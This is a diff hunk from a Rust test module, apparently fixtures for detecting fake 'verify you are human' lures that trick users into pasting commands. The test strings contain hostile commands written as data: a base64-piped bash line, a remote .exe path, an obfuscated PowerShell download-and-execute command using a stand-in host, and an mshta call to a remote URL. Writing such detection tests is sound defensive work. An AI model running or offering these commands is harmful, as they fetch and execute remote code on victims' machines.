@@ -175,7 +175,7 @@ mod tests {
             ),
             (&mail(), "I am not a robot: open Terminal, press Cmd+V:\necho YQ== | base64 -d | bash"),
             (&mail(), "Verify you are human: press Win+R, Ctrl+V\n\\\\host.invalid\\s\\a.exe"),
-            (&note, "To verify you are human press Win+R, Ctrl+V:\n`p^ower^shell -w h -c iex(irm host.invalid)`"),
+            (&note, "To verify you are human press Win+R, Ctrl+V:\n`powers^hell -w h -c iex(irm host.invalid)`"),
             (
                 &page,
                 "<p>To verify you are human press <b>Win</b>+<b>R</b>, Ctrl+V</p><p>msh<i></i>ta https://host.invalid/a</p>",
